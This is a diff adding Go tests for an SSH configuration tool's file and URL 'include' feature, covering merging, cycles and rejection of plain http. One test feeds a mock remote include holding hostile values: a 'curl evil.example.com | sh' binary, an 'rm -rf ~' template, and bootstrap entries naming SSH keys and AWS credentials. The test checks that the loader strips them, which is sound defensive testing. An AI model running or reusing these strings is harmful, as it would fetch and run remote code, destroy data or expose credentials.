@@ -0,0 +1,176 @@
+package config
+
+import (
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+const baselineServers = `servers:
+  - name: bastion
+    hostname: bastion.example.com
+    port: 22
+    username: team
+    auth_type: key
+    key_path: ~/.ssh/id_rsa
+  - name: web1
+    hostname: web1.example.com
+    port: 22
+    username: team
+    auth_type: key
+    key_path: ~/.ssh/id_rsa
+profiles:
+  - name: team
+    servers: [bastion, web1]
+`
+
+func TestIncludeMergesWithLocalOverrides(t *testing.T) {
+	dir := t.TempDir()
+	configPath := filepath.Join(dir, "config.yaml")
+	writeTestFile(t, filepath.Join(dir, "shared", "team.yaml"), baselineServers)
+	writeTestFile(t, configPath, "include:\n  - shared/team.yaml\nservers:\n  - name: web1\n    hostname: web1.local\n    port: 22\n    username: me\n    auth_type: key\n    key_path: ~/.ssh/id_rsa\n")
+
+	cfg, err := LoadFromPath(configPath)
+	if err != nil {
+		t.Fatalf("Expected no error, got: %v", err)
+	}
+	if len(cfg.Servers) != 2 || len(cfg.Profiles) != 1 {
+		t.Fatalf("Expected 2 servers and 1 profile, got %d and %d", len(cfg.Servers), len(cfg.Profiles))
+	}
+
+	web1, _ := cfg.GetServer("web1")
+	if web1.Hostname != "web1.local" {
+		t.Errorf("Expected the local definition to override the include, got %s", web1.Hostname)
+	}
+
+	if err := cfg.Save(); err != nil {
+		t.Fatalf("Expected no error saving, got: %v", err)
+	}
+	if content := readTestFile(t, configPath); strings.Contains(content, "bastion") || !strings.Contains(content, "shared/team.yaml") {
+		t.Errorf("Included servers must not be written back:\n%s", content)
+	}
+}
+
+func TestIncludeModifiedServerBecomesOverride(t *testing.T) {
+	dir := t.TempDir()
+	configPath := filepath.Join(dir, "config.yaml")
+	writeTestFile(t, filepath.Join(dir, "team.yaml"), baselineServers)
+	writeTestFile(t, configPath, "include: [team.yaml]\nservers: []\n")
+
+	cfg, err := LoadFromPath(configPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	bastion, _ := cfg.GetServer("bastion")
+	bastion.Username = "me"
+	if err := cfg.UpdateServer(*bastion); err != nil {
+		t.Fatal(err)
+	}
+	if err := cfg.Save(); err != nil {
+		t.Fatal(err)
+	}
+
+	content := readTestFile(t, configPath)
+	if !strings.Contains(content, "bastion") || strings.Contains(content, "web1") {
+		t.Errorf("Expected only the modified server to be written:\n%s", content)
+	}
+}
+
+func TestIncludeCycle(t *testing.T) {
+	dir := t.TempDir()
+	configPath := filepath.Join(dir, "config.yaml")
+	writeTestFile(t, filepath.Join(dir, "a.yaml"), "include: [b.yaml]\n")
+	writeTestFile(t, filepath.Join(dir, "b.yaml"), "include: [a.yaml]\n")
+	writeTestFile(t, configPath, "include: [a.yaml]\nservers: []\n")
+
+	_, err := LoadFromPath(configPath)
+	if err == nil || !strings.Contains(err.Error(), "include cycle") {
+		t.Fatalf("Expected include cycle error, got: %v", err)
+	}
+}
+
+func TestIncludeURL(t *testing.T) {
+	original := fetchURL
+	fetchURL = func(url string) ([]byte, error) {
+		if url != "https://config.example.com/team.yaml" {
+			t.Errorf("Unexpected URL %s", url)
+		}
+		return []byte(baselineServers), nil
+	}
+	t.Cleanup(func() { fetchURL = original })
+
+	dir := t.TempDir()
+	configPath := filepath.Join(dir, "config.yaml")
+	writeTestFile(t, configPath, "include: [\"https://config.example.com/team.yaml\"]\nservers: []\n")
+
+	cfg, err := LoadFromPath(configPath)
+	if err != nil {
+		t.Fatalf("Expected no error, got: %v", err)
+	}
+	if len(cfg.Servers) != 2 {
+		t.Errorf("Expected 2 included servers, got %d", len(cfg.Servers))
+	}
+
+	writeTestFile(t, configPath, "include: [\"http://config.example.com/team.yaml\"]\nservers: []\n")
+	if _, err := LoadFromPath(configPath); err == nil {
+		t.Error("Expected plain http:// includes to be rejected")
+	}
+}
+
+func TestIncludeURLDropsLocalExecution(t *testing.T) {
+	original := fetchURL
+	fetchURL = func(url string) ([]byte, error) {
+		return []byte(`servers:
+  - name: web1
+    hostname: web1.example.com
+    port: 22
+    username: team
+    auth_type: key
+    key_path: ~/.ssh/id_rsa
+    ssh_binary: curl evil.example.com | sh; ssh
+    ssh_template: "{ssh} {host}; rm -rf ~"
+    bootstrap:
+      files: [~/.ssh/id_rsa]
+profiles:
+  - name: team
+    servers: [web1]
+    ssh_binary: /tmp/evil
+    bootstrap:
+      script: ~/.aws/credentials
+`), nil
+	}
+	t.Cleanup(func() { fetchURL = original })
+
+	configPath := filepath.Join(t.TempDir(), "config.yaml")
+	writeTestFile(t, configPath, "include: [\"https://config.example.com/team.yaml\"]\nservers: []\n")
+
+	cfg, err := LoadFromPath(configPath)
+	if err != nil {
+		t.Fatalf("Expected no error, got: %v", err)
+	}
+	server, err := cfg.GetServer("web1")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if server.HasSSHTemplate() || server.Bootstrap != nil {
+		t.Errorf("Expected the URL include to lose its commands and bootstrap, got %+v", server)
+	}
+	profile, err := cfg.GetProfile("team")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if profile.SSHBinary != "" || profile.Bootstrap != nil {
+		t.Errorf("Expected the URL include's profile to lose its commands and bootstrap, got %+v", profile)
+	}
+}
+
+func TestIncludeMissingFile(t *testing.T) {
+	dir := t.TempDir()
+	configPath := filepath.Join(dir, "config.yaml")
+	writeTestFile(t, configPath, "include: [missing.yaml]\nservers: []\n")
+
+	_, err := LoadFromPath(configPath)
+	if err == nil || !strings.Contains(err.Error(), "missing.yaml") {
+		t.Fatalf("Expected error naming the missing include, got: %v", err)
+	}
+}